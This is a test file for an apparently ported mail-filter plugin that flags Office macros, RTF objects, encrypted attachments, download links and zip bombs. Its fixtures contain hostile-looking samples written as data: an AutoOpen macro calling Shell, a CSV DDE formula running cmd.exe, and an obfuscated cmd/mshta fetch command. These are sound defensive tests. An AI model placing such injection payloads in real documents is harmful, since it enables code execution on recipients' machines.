import { deflateRawSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { mailWithParts } from '../../test/support/mail-with-parts.ts'
import { macroProject, newDocument, oldDocument } from '../../test/support/office-files.ts'
import { testPluginCases } from '../../test/support/plugin-cases.ts'
import { type ZippedFile, zipFile } from '../../test/support/zip-file.ts'
import {
  automaticProcedure,
  commandInTable,
  externalTargets,
  macroContentType,
  programLink,
} from './office/office-marks.ts'
import { readZip } from './office/zip-archive.ts'

/** Time of the processor, which other processes do not lengthen. */
const cpuMs = () => process.cpuUsage().user / 1000

const file = (name: string, data: string, type = 'application/octet-stream') =>
  mailWithParts('hello', [{ type, name, data }])
const MACRO = 'Sub AutoOpen()\r\nShell "x"\r\nEnd Sub\r\n'
const project = (source = MACRO): ZippedFile => ({
  name: 'word/vbaProject.bin',
  data: macroProject(source),
  stored: true,
})
const TYPES_OF_MACROS = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
const RTF = '{\\rtf1 {\\object\\objemb\\objw1{\\*\\objdata 0105}}}'
const ENCRYPTED = `\xd0\xcf\x11\xe0${'\0'.repeat(600)}E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0`
const withByte = (at: number, byte: string) => `\xd0\xcf\x11\xe0${'\x01'.repeat(at - 4)}${byte}${'\x01'.repeat(600)}`
const MHTML = 'MHTML:&#x48;&#x54;&#x50;&#x3a;&#x5c;&#x5c;&#x31;&#x2e;'
const CSV = "a,b\n=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1\n"

const RULES = `
body T_MACRO eval:check_olemacro()
body T_OBJECT eval:check_oleobject()
body T_RTF eval:check_olertfobject()
body T_CSV eval:check_olemacro_csv()
body T_MALICE eval:check_olemacro_malice()
body T_RENAMED eval:check_olemacro_renamed()
body T_ENCRYPTED eval:check_olemacro_encrypted()
body T_ZIP_PASSWORD eval:check_olemacro_zip_password()
body T_DOWNLOAD eval:check_olemacro_download_exe()
body T_LINK eval:check_olemacro_redirect_uri()
body T_MHTML eval:check_olemacro_mhtml_uri()
uri T_URI /docs\\.example\\.com/
`

testPluginCases('OLEVBMacro', {
  plugins: ['OLEVBMacro'],
  cf: RULES,
  cases: {
    'no attachment': { message: mailWithParts('hello', []), hits: [] },
    'old document': { message: file('a.doc', oldDocument()), hits: ['T_ENCRYPTED'] },
    'old document with a macro': {
      message: file('a.doc', oldDocument('Sub Other()\r\nEnd Sub\r\n')),
      hits: ['T_MACRO'],
    },
    'a macro that runs': { message: file('a.doc', oldDocument(MACRO)), hits: ['T_MACRO'] },
    'its name cut by packing': { message: file('a.doc', oldDocument(`x${MACRO}`)), hits: ['T_MACRO'] },
    'the name in capitals': { message: file('A.DOC', oldDocument(MACRO)), hits: [] },
    'another name': { message: file('a.dat', oldDocument(MACRO)), hits: [] },
    'not encoded': {
      message: mailWithParts('hello', [{ type: 'application/msword', name: 'a.doc', data: RTF, encoding: '8bit' }]),
      hits: [],
    },
    'said to be text': { message: file('a.rtf', RTF, 'text/rtf'), hits: [] },
    'an object in RTF': { message: file('a.rtf', RTF, 'application/rtf'), hits: ['T_MACRO'] },
    'object data in RTF': { message: file('a.doc', '{\\rtf1 {\\*\\objdata 0105}}'), hits: ['T_MACRO'] },
    'XML of Word': { message: file('a.doc', '<w:wordDocument w:macrosPresent="yes">'), hits: ['T_MACRO'] },
    'relations of a project': {
      message: file('a.xls', 'vbaProject.bin.rels auto_open'),
      hits: ['T_MACRO', 'T_MALICE'],
    },
    'an embedded object': {
      message: file('a.xls', `\xd0\xcf\x11\xe0...\x01\0O\0l\0e\x001\x000\0N\0a\0tive`),
      hits: ['T_MACRO'],
    },
    'new document': { message: file('a.docx', newDocument()), hits: [] },
    'new document with a project': { message: file('a.docx', newDocument([project()])), hits: ['T_MACRO'] },
    'with a project that does not run': {
      message: file('a.docx', newDocument([project('Sub X()\r\n')])),
      hits: ['T_MACRO'],
    },
    'with a packed project': {
      message: file('a.docx', newDocument([{ ...project(), stored: false }])),
      hits: ['T_MACRO'],
    },
    'its types say macros': { message: file('a.docx', newDocument([], TYPES_OF_MACROS)), hits: ['T_MACRO'] },
    'its types say macro sheets': {
      message: file('a.xlsx', newDocument([], '<Override ContentType="application/vnd.ms-excel.intlmacrosheet+xml"/>')),
      hits: ['T_MACRO'],
    },
    'macros by its name': { message: file('a.docm', newDocument()), hits: ['T_MACRO'] },
    'macros by its name, and nothing else': { message: file('a.xlsm', 'nothing'), hits: ['T_MACRO'] },
    'slides without macros': { message: file('a.pptx', newDocument([project()])), hits: [] },
    'an embedded object in a workbook': {
      message: file('a.xlsx', newDocument([{ name: 'xl/embeddings/oleObject1.bin', data: 'x' }])),
      hits: ['T_OBJECT'],
    },
    'RTF in a document': {
      message: file('a.docx', newDocument([{ name: 'word/afchunk.rtf', data: RTF }])),
      hits: ['T_RTF'],
    },
    'links outside': {
      message: file(
        'a.docx',
        newDocument([], '', ['http://docs.example.com/x', 'file:///c:/x', 'mhtml:http://b.example.net/']),
      ),
      hits: ['T_LINK', 'T_MHTML', 'T_URI'],
    },
    'a link into the engine': { message: file('a.docx', newDocument([], '', [MHTML])), hits: ['T_MHTML'] },
    'more links than are kept': {
      message: file(
        'a.docx',
        newDocument([], '', [
          ...Array.from({ length: 10 }, (_, i) => `https://n${i}.example.net/`),
          'http://docs.example.com/',
        ]),
      ),
      hits: ['T_LINK'],
    },
    'a command in a table': { message: file('a.csv', CSV, 'application/vnd.ms-excel'), hits: ['T_CSV'] },
    'a table as text': { message: file('a.csv', CSV, 'text/csv'), hits: [] },
    'a plain table': { message: file('a.csv', 'a,b\ncmd.exe,1\n', 'application/vnd.ms-excel'), hits: [] },
    'encrypted package': { message: file('a.xlsx', ENCRYPTED), hits: ['T_ENCRYPTED'] },
    'encrypted workbook': { message: file('a.xls', withByte(0x214, '/')), hits: ['T_ENCRYPTED'] },
    'encrypted text': { message: file('a.doc', withByte(0x20b, '\x13')), hits: ['T_ENCRYPTED'] },
    'encrypted slides': { message: file('a.ppt', withByte(0x208, '\xfe')), hits: ['T_ENCRYPTED'] },
    'a workbook that is not': {
      message: file('a.xls', `${withByte(0x208, '\xfe')}W\0o\0r\0k\0b\0o\0o\0k\0`),
      hits: [],
    },
    'encrypted, not a document': { message: file('a.doc', ENCRYPTED.slice(1)), hits: [] },
    'a program is loaded': {
      message: file('a.xls', `\xd0\xcf\x11\xe0\0http://downloads.example.com/files/a.exe\0`),
      hits: ['T_DOWNLOAD'],
    },
    'a program on another host': { message: file('a.xls', '\0https://downloads.example.com/a.exe?\0'), hits: [] },
    'a command loads': { message: file('a.doc', 'x cmd.exe /c ms^h^ta ht^tp:/^/1.2.3.4 y'), hits: ['T_DOWNLOAD'] },
    'a document in a zip': {
      message: file('a.zip', zipFile([{ name: 'b.doc', data: oldDocument(MACRO) }])),
      hits: ['T_MACRO'],
    },
    'a zip in a zip': {
      message: file('a.zip', zipFile([{ name: 'b.zip', data: zipFile([{ name: 'c.doc', data: RTF }]) }])),
      hits: ['T_MACRO'],
    },
    'three zips deep': {
      message: file(
        'a.zip',
        zipFile([{ name: 'b.zip', data: zipFile([{ name: 'c.zip', data: zipFile([{ name: 'd.doc', data: RTF }]) }]) }]),
      ),
      hits: [],
    },
    'an encrypted document in a zip': {
      message: file('a.zip', zipFile([{ name: 'b.doc', data: 'x', encrypted: true }])),
      hits: ['T_ZIP_PASSWORD'],
    },
    'an encrypted document of macros in a zip': {
      message: file('a.zip', zipFile([{ name: 'b.docm', data: 'x', encrypted: true }])),
      hits: ['T_MACRO', 'T_ZIP_PASSWORD'],
    },
    'more files than are looked at': {
      message: file(
        'a.zip',
        zipFile([
          ...Array.from({ length: 9 }, (_, i) => ({ name: `${i}.txt`, data: 'x' })),
          ...Array.from({ length: 7 }, (_, i) => ({ name: `${i}.doc`, data: 'x' })),
          { name: 'x.rtf', data: RTF },
          { name: 'y.csv', data: CSV },
        ]),
      ),
      hits: ['T_MACRO'],
    },
    'a table in a zip': { message: file('a.zip', zipFile([{ name: 'b.csv', data: CSV }])), hits: ['T_CSV'] },
    'no zip': { message: file('a.zip', 'PK nothing'), hits: [] },
    'a zip with a comment': {
      message: file('a.zip', zipFile([{ name: 'b.rtf', data: RTF }], { comment: 'c'.repeat(2000) })),
      hits: ['T_MACRO'],
    },
    'a zip behind other bytes': {
      message: file('a.zip', `MZ program ${zipFile([{ name: 'b.rtf', data: RTF }])}`),
      hits: ['T_MACRO'],
    },
    'a zip cut at its end': { message: file('a.zip', zipFile([{ name: 'b.rtf', data: RTF }]).slice(0, -5)), hits: [] },
    'bytes behind a zip': {
      message: file('a.zip', `${zipFile([{ name: 'b.rtf', data: RTF }])}more`),
      hits: ['T_MACRO'],
    },
    zip64: { message: file('a.zip', zipFile([{ name: 'b.rtf', data: RTF }], { zip64: true })), hits: ['T_MACRO'] },
    'sums behind the data': {
      message: file(
        'a.zip',
        zipFile([
          { name: 'b.rtf', data: RTF, descriptor: 'signed' },
          { name: 'c.csv', data: CSV, descriptor: 'bare' },
        ]),
      ),
      hits: ['T_CSV', 'T_MACRO'],
    },
    'a wrong sum behind the data': {
      message: file(
        'a.zip',
        zipFile([{ name: 'b.rtf', data: RTF, descriptor: 'signed', crc: 1 }]).replace(
          'PK\x07\x08\x01',
          'PK\x07\x08\x02',
        ),
      ),
      hits: [],
    },
    'a wrong sum': { message: file('a.zip', zipFile([{ name: 'b.rtf', data: RTF, crc: 1 }])), hits: ['T_MACRO'] },
    'a method nobody knows': { message: file('a.zip', zipFile([{ name: 'b.rtf', data: RTF, method: 99 }])), hits: [] },
    'no deflated data': {
      message: file('a.zip', zipFile([{ name: 'b.rtf', data: `\xff${RTF}`, method: 8 }])),
      hits: [],
    },
    'deflated data that ends early': {
      message: file(
        'a.zip',
        zipFile([
          {
            name: 'b.rtf',
            data: deflateRawSync(Buffer.from(`${RTF}${'random 1 2 3 4 5 '.repeat(9)}`))
              .toString('latin1')
              .slice(0, -3),
            method: 8,
          },
        ]),
      ),
      hits: ['T_MACRO'],
    },
    'a folder in a zip': {
      message: file(
        'a.zip',
        zipFile([
          { name: 'b/', data: '', stored: true },
          { name: 'b/c.rtf', data: RTF },
        ]),
      ),
      hits: ['T_MACRO'],
    },
    'more attachments than are looked at': {
      message: mailWithParts('hello', [
        ...Array.from({ length: 5 }, (_, i) => ({ type: 'application/x', name: `${i}.doc`, data: 'x' })),
        { type: 'application/x', name: 'b.rtf', data: RTF },
      ]),
      hits: [],
    },
    'a mark behind the limit': { message: file('a.rtf', `${' '.repeat(1_024_000)}${RTF}`), hits: [] },
    'named by the disposition': {
      message: mailWithParts('hello', [
        {
          type: 'application/x',
          name: 'a.txt',
          data: RTF,
          header: 'Content-Disposition: attachment; filename="b.rtf "\n',
        },
      ]),
      hits: ['T_MACRO'],
    },
    'named by the type': {
      message: mailWithParts('hello', [
        {
          type: 'application/x',
          name: 'a.rtf',
          data: RTF,
          header: 'Content-Disposition: attachment; filename="b.txt"\n',
        },
      ]),
      hits: [],
    },
    'an encoded name': {
      message: mailWithParts('hello', [{ type: 'application/x', name: '=?utf-8?B?YS5ydGY=?=', data: RTF }]),
      hits: ['T_MACRO'],
    },
  },
})

testPluginCases('OLEVBMacro with other settings', {
  plugins: ['OLEVBMacro'],
  cf: `${RULES}
olemacro_extended_scan 1
olemacro_num_mime 2
olemacro_num_zip 1
olemacro_zip_depth 1
olemacro_max_file 20000
olemacro_prefer_contentdisposition 0
olemacro_exts (?i)(?:doc|rtf)$
olemacro_macro_exts \\.mac$
olemacro_skip_exts ^skip
olemacro_skip_ctypes ^image
olemacro_zips \\.(?:zip|jar)$
olemacro_download_marker (?i)load(?:this|that)
`,
  cases: {
    renamed: { message: file('a.dat', oldDocument(MACRO)), hits: ['T_MACRO', 'T_RENAMED'] },
    'a renamed new document': {
      message: file('a.txt', newDocument([project()], '', ['http://docs.example.com/'])),
      hits: ['T_LINK', 'T_MACRO', 'T_RENAMED', 'T_URI'],
    },
    'a renamed zip': { message: file('a.txt', zipFile([{ name: 'b.doc', data: RTF }])), hits: ['T_MACRO'] },
    'renamed in a zip': {
      message: file('a.jar', zipFile([{ name: 'b.txt', data: oldDocument(MACRO) }])),
      hits: ['T_MACRO', 'T_RENAMED'],
    },
    'not renamed': { message: file('a.txt', 'hello'), hits: [] },
    'text is looked at': { message: file('a.DOC', RTF, 'text/plain'), hits: ['T_MACRO'] },
    'pictures are not': { message: file('a.doc', RTF, 'image/png'), hits: [] },
    'names that are skipped': { message: file('skip.doc', RTF), hits: [] },
    'macros by name': { message: file('x.mac', 'x loadTHAT'), hits: ['T_DOWNLOAD', 'T_MACRO'] },
    'the second file of a zip': {
      message: file(
        'a.zip',
        zipFile([
          { name: 'a.txt', data: 'x' },
          { name: 'b.doc', data: RTF },
        ]),
      ),
      hits: [],
    },
    'the third attachment': {
      message: mailWithParts(
        '',
        ['a.txt', 'b.txt', 'c.doc'].map((name) => ({
          type: 'application/x',
          name,
          data: RTF.slice(name === 'c.doc' ? 0 : 9),
        })),
      ),
      hits: ['T_MACRO', 'T_RENAMED'],
    },
    'a zip in a zip': {
      message: file('a.zip', zipFile([{ name: 'b.zip', data: zipFile([{ name: 'c.doc', data: RTF }]) }])),
      hits: [],
    },
    'too long': { message: file('a.doc', ' '.repeat(20_000) + RTF), hits: [] },
    'named by the type': {
      message: mailWithParts('hello', [
        {
          type: 'application/x',
          name: 'a.mac',
          data: RTF,
          header: 'Content-Disposition: attachment; filename="b.txt"\n',
        },
      ]),
      hits: ['T_MACRO'],
    },
  },
})

testPluginCases('OLEVBMacro without zips', {
  plugins: ['OLEVBMacro'],
  cf: `${RULES}olemacro_num_zip 0\nolemacro_num_mime 0\n`,
  cases: {
    'a zip': { message: file('a.zip', zipFile([{ name: 'b.doc', data: RTF }])), hits: [] },
    'a new document': { message: file('a.docx', newDocument([project()])), hits: ['T_MACRO'] },
    'the second attachment': {
      message: mailWithParts(
        '',
        ['a.doc', 'b.doc'].map((name, i) => ({ type: 'application/x', name, data: i ? RTF : 'x' })),
      ),
      hits: [],
    },
  },
})

describe('readZip', () => {
  const members = (zip: string, bytesLeft = 1e6) =>
    readZip(zip, { bytesLeft })?.map((one) => [one.name, one.contents()])
  const text = 'a text that repeats '.repeat(500)
  test('reads what zips hold', () => {
    expect(
      members(
        zipFile([
          { name: 'a', data: text },
          { name: 'b', data: 'x', stored: true },
        ]),
      ),
    ).toEqual([
      ['a', text],
      ['b', 'x'],
    ])
  })
  test('stops where the budget ends', () => {
    const bomb = zipFile(Array.from({ length: 20 }, (_, i) => ({ name: `${i}`, data: 'A'.repeat(10_000_000) })))
    const started = cpuMs()
    const read = members(bomb, 20_000_000) ?? []
    expect(read.length).toBe(20)
    expect(read.reduce((sum, [, data]) => sum + (data?.length ?? 0), 0)).toBeLessThan(26_000_000)
    expect(cpuMs() - started).toBeLessThan(2000)
  })
  test('never fails', () => {
    const zip = zipFile(
      [
        { name: 'a', data: text },
        { name: 'b', data: 'x', descriptor: 'signed' },
      ],
      { zip64: true },
    )
    for (let at = 0; at < zip.length; at++) {
      for (const byte of ['\0', '\xff', '\x80']) members(zip.slice(0, at) + byte + zip.slice(at + 1))
      members(zip.slice(0, at))
      members(zip.slice(at))
    }
  })
})

test.each([
  ['\0http://downloads.example.com/a.exe\0', 'http://downloads.example.com/a.exe'],
  ['\0HTTPS://downloads.example.com/a.BAT|', 'HTTPS://downloads.example.com/a.BAT'],
  ['\0http://a.example/b.cmd\x06', 'http://a.example/b.cmd'],
  ['http://downloads.example.com/a.exe\0', undefined],
  ['\0http://a.b.exe\0', undefined],
  [`\0http://${'a'.repeat(2000)}.exe\0`, `http://${'a'.repeat(2000)}.exe`],
  [`\0http://${'a'.repeat(2001)}.exe\0`, undefined],
  [`\0http://${'a;'.repeat(500)}${'b'.repeat(900)}.exe\0`, `http://${'a;'.repeat(500)}${'b'.repeat(900)}.exe`],
  [`\0http://${'b'.repeat(100)};${'b'.repeat(4)}.exe\0`, undefined],
  [`\0http://downloads.example.com/a.exe?.exe\0`, undefined],
])('link to a program in %s', (data, link) => {
  expect(programLink(data)).toBe(link)
})

test('time grows no faster than a document', () => {
  const pieces = [
    '\0http://aaaaaaaaaaaaaa.exe',
    '\0https://',
    'Target="',
    'Relationship Target="x" ',
    'MSEXCEL|',
    'auto',
  ]
  const started = cpuMs()
  for (const piece of pieces) {
    const data = piece.repeat(2_000_000 / piece.length)
    for (const find of [programLink, externalTargets, commandInTable, automaticProcedure, macroContentType]) find(data)
  }
  expect(cpuMs() - started).toBeLessThan(3000)
})
